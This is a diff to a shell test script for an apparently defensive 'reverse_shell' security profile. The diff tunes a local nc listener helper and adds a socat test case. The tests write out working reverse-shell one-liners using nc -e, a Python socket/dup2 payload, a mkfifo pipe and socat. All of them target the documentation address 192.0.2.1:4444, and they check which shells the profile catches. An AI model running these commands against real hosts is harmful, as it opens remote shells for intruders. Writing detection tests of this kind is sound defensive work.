@@ -2,37 +2,35 @@
 # SPDX-License-Identifier: Apache-2.0
 # reverse_shell: a network peer that types into a program. The profile is as shipped.
 
-# peer: waits for a shell, types into it, and keeps what comes back
-peer() {
+# listen: a peer that waits for a shell, types into it, and keeps what comes back
+listen() {
 	local i
 
-	{
-		# shellcheck disable=SC2016 # for the shell at the other end
-		printf 'echo ran-$((6 * 7))\nexit\n'
-		sleep 8
-	} | nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
+	# shellcheck disable=SC2016 # for the shell at the other end
+	printf 'echo ran-$((6 * 7))\nexit\n' | timeout 30 nc -l 192.0.2.1 4444 >"$work/heard" 2>/dev/null &
+	peer=$!
 	for ((i = 0; i < 50; i++)); do
 		[[ -z $(ss --no-header --listening --tcp --numeric 'sport = :4444') ]] || return
 		sleep 0.1
 	done
 }
 
-# What came back, once the shell is gone.
+# heard NAME WANT: what came back, once the connection is gone
 heard() {
-	wait "$!"
-	grep --only-matching ran-42 "$work/heard"
+	wait "$peer"
+	equal "$1" "$2" "$(grep --only-matching ran-42 "$work/heard")"
 }
 
 # shell NAME SCRIPT: a way to a shell that works without a profile, and never runs under one
 shell() {
 	local name=$1
 
-	peer
+	listen
 	act free prepare sh "$2"
-	equal "$name works without a profile" ran-42 "$(heard)"
-	peer
+	heard "$name works without a profile" ran-42
+	listen
 	refuse_shell "$2"
-	equal "$name never runs" "" "$(heard)"
+	heard "$name never runs" ""
 	equal "$name leaves one event" "reverse_shell kill reverse_shell" \
 		"$(cut --delimiter=' ' --fields=2- "$work/events")"
 }
@@ -46,9 +44,9 @@ refuse_shell() {
 
 # other_shell NAME SCRIPT: a shell that this rule does not catch
 other_shell() {
-	peer
+	listen
 	act "$session_container" prepare sh "$2"
-	equal "$1 is another matter" ran-42 "$(heard)"
+	heard "$1 is another matter" ran-42
 	: >"$work/taken"
 	collect shell
 	list_events
@@ -61,6 +59,8 @@ shell "nc -e" "nc.traditional 192.0.2.1 4444 -e /bin/sh"
 shell "a python one-liner" "python3 -c 'import socket,subprocess,os;s=socket.socket();s.connect((\"192.0.2.1\",4444));\
 [os.dup2(s.fileno(),n) for n in (0,1,2)];subprocess.call([\"/bin/sh\"])'"
 other_shell "a shell behind pipes" "mkfifo /tmp/pipe; sh </tmp/pipe 2>&1 | nc.traditional 192.0.2.1 4444 >/tmp/pipe"
+# Slow machines: what the shell has said is still on its way when it ends.
+other_shell "a shell behind a pty" "socat -t 5 tcp:192.0.2.1:4444 exec:/bin/sh,pty,stderr,setsid"
 stop reverse-shell
 
 session reverse-shell-descriptors no-reverse-shell || return
